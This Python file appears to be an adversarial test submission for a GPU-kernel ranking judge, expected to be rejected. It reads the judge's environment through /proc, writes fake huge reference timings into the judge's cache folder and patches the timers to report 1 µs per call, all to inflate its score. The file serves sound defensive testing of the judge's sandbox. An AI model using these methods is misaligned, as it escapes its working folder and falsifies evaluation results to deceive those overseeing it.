"""Writes outside its folder: poisons the judge's reference-timing cache, then lies about its times.

Class: writing outside the working folder (poisoning the judge's reference-timing cache)
Expected: error|rejected

The judge caches the reference's timings per problem revision, device and mode, and uses the
reference's "unexplained" wall time per call to calibrate its wall-clock cross-check. Everything
needed to name that cache file is public and importable in the child (the revision hash of the
problem's files, the device key, the file layout). On loading, the submission finds the judge's
cache folder (``KERNELRANK_CACHE_DIR`` in the judge's environment, ``~/.cache/kernelrank`` of the
judge's home, or a ``cache/reference`` folder next to its own scratch folder) and writes entries
for every benchmark case with a huge reference time and a huge unexplained time, so the
cross-check allows anything and every speedup looks enormous; then it claims 1 µs per call. The
kernel is honest, so every output is right. If it cannot write any cache folder it raises.

A working defence keeps everything outside the child's folder read-only or invisible to it (a
mount namespace, another user), so the write fails.
"""

import os
from pathlib import Path

import torch

import kernelrank.runner.timing as _timing

_HUGE = 1e15


def _judge_environ():
    """The judge's (the parent's) environment, through ``/proc``."""
    try:
        raw = open(f"/proc/{os.getppid()}/environ", "rb").read()
    except OSError:
        return {}
    return dict(kv.decode(errors="replace").partition("=")[::2] for kv in raw.split(b"\0") if b"=" in kv)


def _cache_roots():
    roots = []
    env = _judge_environ()
    if env.get("KERNELRANK_CACHE_DIR"):
        roots.append(Path(env["KERNELRANK_CACHE_DIR"]))
    if env.get("HOME"):
        roots.append(Path(env["HOME"]) / ".cache" / "kernelrank")
    here = Path.cwd().resolve()
    for up in list(here.parents)[:3]:
        try:
            roots += [p.parent for p in up.glob("*/reference") if p.is_dir()]
        except OSError:
            pass
    return [r for r in dict.fromkeys(roots) if (r / "reference").is_dir()]


def _poison():
    from kernelrank.problems import load_problem
    from kernelrank.runner.devices import device_info
    from kernelrank.runner.refcache import ReferenceCache, ReferenceTiming, case_key

    problem = load_problem("gemm")
    timings = {}
    for device in ("cpu", "cuda"):
        for case in problem.definition.benchmark_cases(device):
            timings[case_key(case.params)] = ReferenceTiming(mean_ns=_HUGE, overhead_ns=_HUGE)
    keys = {device_info("cpu", torch.get_num_threads()).key}
    if torch.cuda.is_available():
        keys.add(device_info("cuda").key)
    poisoned = []
    for root in _cache_roots():
        cache = ReferenceCache(root)
        for key in keys:
            for mode in ("leaderboard", "benchmark"):
                try:
                    cache.store(problem.revision, key, mode, timings)
                    poisoned.append(str(root))
                except OSError:
                    pass
    return sorted(set(poisoned))


_done = _poison()
if not _done:
    raise RuntimeError("no reference cache of the judge is writable from here")
print(f"[attack] poisoned the reference cache in {_done}", flush=True)


def _lying(self, fn, data):
    return fn(data), 1000


for _cls in (getattr(_timing, "CpuTimer", None), getattr(_timing, "CudaTimer", None)):
    if _cls is not None:
        _cls.time_call = _lying


def custom_kernel(data):
    a, b = data
    return torch.mm(a, b)
